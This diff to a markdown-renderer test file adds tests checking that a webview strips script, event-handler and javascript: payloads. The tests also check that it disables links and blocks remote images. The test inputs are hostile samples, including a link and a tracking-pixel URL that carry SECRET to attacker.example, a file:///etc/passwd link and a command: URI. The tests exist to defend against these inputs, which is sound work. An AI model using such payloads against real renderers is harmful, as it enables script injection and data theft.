@@ -4,7 +4,7 @@ import { installDom } from './domEnvironment';
 installDom();
 // Loaded after the DOM exists.
 // eslint-disable-next-line @typescript-eslint/no-require-imports
-const { renderMarkdownHtml, StreamingMarkdown } = require('../../../src/webview/markdown') as typeof import('../../../src/webview/markdown');
+const { listenForLinks, renderMarkdownHtml, StreamingMarkdown } = require('../../../src/webview/markdown') as typeof import('../../../src/webview/markdown');
 
 describe('webview markdown', () => {
   it('renders GitHub-flavoured markdown', () => {
@@ -19,6 +19,38 @@ describe('webview markdown', () => {
       '<script>alert(1)</script><img src=x onerror="alert(2)"><a href="javascript:alert(3)">x</a><iframe src="https://evil"></iframe><p style="color:red">s</p>\n\n[link](javascript:alert(4))',
     );
     assert.doesNotMatch(html, /<script|onerror|javascript:|<iframe|style=/i);
+  });
+
+  it('leaves no link an href: http(s) and mailto keep their target for the host, other schemes become text', () => {
+    const box = document.createElement('div');
+    box.innerHTML = renderMarkdownHtml(
+      '[docs](https://attacker.example/?q=SECRET) [mail](mailto:a@b.example) [file](file:///etc/passwd) [rel](src/a.ts) [cmd](command:workbench.action.reload) <a href="http://x.example" target="_blank">raw</a>',
+    );
+    assert.equal(box.querySelectorAll('[href], [src], [target]').length, 0, box.innerHTML);
+    assert.deepEqual(Array.from(box.querySelectorAll<HTMLElement>('a')).map(a => [a.textContent, a.dataset.href]), [
+      ['docs', 'https://attacker.example/?q=SECRET'],
+      ['mail', 'mailto:a@b.example'],
+      ['raw', 'http://x.example/'],
+    ]);
+    assert.match(box.textContent ?? '', /file rel cmd raw/);
+  });
+
+  it('shows a remote image as its alt text and URL, and keeps an inline data image', () => {
+    const box = document.createElement('div');
+    box.innerHTML = renderMarkdownHtml('![a chart](https://attacker.example/pixel.png?d=SECRET) ![dot](data:image/png;base64,iVBORw0KGgo=)');
+    assert.deepEqual(Array.from(box.querySelectorAll('img')).map(img => img.getAttribute('src')), ['data:image/png;base64,iVBORw0KGgo=']);
+    assert.equal(box.querySelector('.blocked-image')?.textContent, '[image: a chart] https://attacker.example/pixel.png?d=SECRET');
+  });
+
+  it('sends a link click to the host and lets the webview follow nothing', () => {
+    const box = document.createElement('div');
+    box.innerHTML = renderMarkdownHtml('See [the docs](https://example.com/docs) or [this](file:///x).');
+    const opened: string[] = [];
+    listenForLinks(box, url => opened.push(url));
+    const click = new window.MouseEvent('click', { bubbles: true, cancelable: true });
+    box.querySelector('a')!.dispatchEvent(click);
+    assert.equal(click.defaultPrevented, true);
+    assert.deepEqual(opened, ['https://example.com/docs']);
   });
 
   it('streams into the same DOM as one render of the final text', () => {
